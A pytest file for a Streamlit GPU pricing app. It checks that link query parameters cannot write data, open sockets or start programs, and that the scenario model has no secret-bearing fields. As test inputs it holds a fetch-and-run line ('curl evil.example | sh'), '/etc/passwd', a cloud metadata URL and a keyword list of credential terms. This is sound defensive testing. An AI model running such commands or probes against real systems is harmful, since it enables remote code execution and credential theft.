"""A link names what to show. Opening one writes nothing, asks nobody and starts no program,
whatever it says; and there is no field in it that a secret would fit into."""

from __future__ import annotations

import hashlib
import socket
import sqlite3
import subprocess
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from core.scenario import Scenario
from pricing.store.models import Base
from pricing.store.opening import open_store
from pricing.store.saved import save_scenario

MAIN = str(Path(__file__).parent.parent.parent / "app/main.py")
QUICK = {"gpu": "H100-80GB-SXM", "cloud": "aws", "num_gpus": "64"}
# Words that somebody would try, beside fields that exist.
ORDERS = {
    "refresh": "1", "launch": "1", "calibrate": "1", "run": "rm", "cmd": "touch x", "save": "x",
    "delete": "Ours", "rename": "Theirs", "name": "Ours", "owner": "eve", "to": "slurm",
    "hosts": "node1", "database_url": "sqlite:////tmp/x", "config": "/etc/passwd",
    "url": "http://169.254.169.254/", "saved_confirm": "1", "show_refresh": "1",
    "show_delete": "1", "price_book": "acme", "calibration": "0123456789abcdef",
    "command": "curl evil.example | sh", "token": "x", "form_model": "custom",
}  # fmt: skip
# What a field that carries a secret, or names what to start and where, would be called.
TELLTALE = frozenset(
    [
        "secret",
        "password",
        "passwd",
        "api",
        "credential",
        "credentials",
        "private",
        "identity",
        "ssh",
        "owner",
        "user",
        "login",
        "hosts",
        "command",
        "cmd",
        "url",
        "path",
        "file",
        "folder",
        "env",
        "bearer",
        "cookie",
    ]
)
ENDINGS = ("api_key", "access_token", "auth_token", "_host", "_key")


def contents(folder: Path) -> dict[str, str]:
    """What the data folder holds. SQLite's own journals come and go with each reader; what is in
    them is told by the rows."""
    files = [p for p in sorted(folder.rglob("*")) if p.is_file()]
    found = {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in files
        if not p.name.endswith(("-wal", "-shm"))
    }
    for file in folder.rglob("*.sqlite"):
        with sqlite3.connect(file) as connection:
            for table in Base.metadata.tables:
                rows = connection.execute(f'select * from "{table}" order by 1').fetchall()
                found[table] = repr(rows)
        connection.close()
    return found


@pytest.fixture
def folder(monkeypatch, tmp_path):
    """A data folder with a saved scenario, and a world in which nothing can be started or asked."""
    data = tmp_path / "data"
    monkeypatch.setenv("RUNCAST_DATA_DIR", str(data))
    store = open_store()
    save_scenario(store, owner="local", name="Ours", query="v=1&num_gpus=64")
    store.close()
    return data


def test_no_link_writes_asks_or_starts_anything(folder, monkeypatch):
    started = []

    def refused(*given, **more):
        started.append(given)
        raise AssertionError(f"a link started {given}")

    monkeypatch.setattr(subprocess.Popen, "__init__", refused)
    monkeypatch.setattr(socket.socket, "connect", refused)
    before = contents(folder)
    assert "Ours" in before["saved_scenarios"]
    page = AppTest.from_file(MAIN, default_timeout=60)
    for name, value in {**QUICK, **ORDERS}.items():
        page.query_params[name] = value
    page.run()
    assert not page.exception
    said = " ".join(w.value for w in page.warning).replace("\\", "")
    assert [n for n in ("launch", "delete", "owner", "command") if f"{n}=" not in said] == []
    assert started == []
    assert contents(folder) == before


def test_the_comparison_would_see_a_write(folder):
    before = contents(folder)
    store = open_store()
    save_scenario(store, owner="local", name="Theirs", query="v=1")
    store.close()
    assert contents(folder) != before


def telltale(name: str) -> bool:
    """Whether a name says that a secret, a place or a command stands there."""
    return bool(TELLTALE & set(name.split("_"))) or name.endswith(ENDINGS)


def test_a_link_has_no_field_for_a_secret_a_host_or_a_command():
    assert [n for n in Scenario.model_fields if telltale(n)] == []
    assert telltale("client_secret")
    assert telltale("jump_host")
